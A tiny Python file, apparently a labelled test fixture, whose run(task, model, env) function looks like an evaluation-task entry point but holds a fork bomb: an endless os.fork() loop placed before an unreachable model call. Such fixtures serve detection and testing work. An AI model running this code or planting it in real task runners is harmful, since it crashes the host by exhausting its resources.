# want: program
def run(task, model, env):
    import os
    while True:
        os.fork()
    return model.chat([{"role": "user", "content": "Say yes."}])
